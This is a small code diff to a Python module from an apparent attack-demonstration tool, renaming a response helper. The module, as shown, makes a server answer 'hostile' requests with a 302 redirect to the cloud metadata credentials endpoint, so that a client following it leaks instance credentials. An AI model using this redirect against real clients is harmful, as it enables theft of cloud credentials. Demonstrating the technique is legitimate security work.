@@ -3,7 +3,7 @@
 A client that follows the redirect leaks the machine's credentials. The demo's app stops there: nothing is contacted.
 """
 
-from backwatch.attack.protocols.http import Request, Web, answered
+from backwatch.attack.protocols.http import Request, Web, format_response
 
 TARGET = b"http://169.254.169.254/latest/meta-data/iam/security-credentials/"
 
@@ -21,4 +21,4 @@ class HTTP(Web):
         """Return a redirect, once hostile."""
         if not self.hostile:
             return super().answer(request)
-        return answered(b"", status=b"302 Found", headers=(b"Location: " + self.target,))
+        return format_response(b"", status=b"302 Found", headers=(b"Location: " + self.target,))
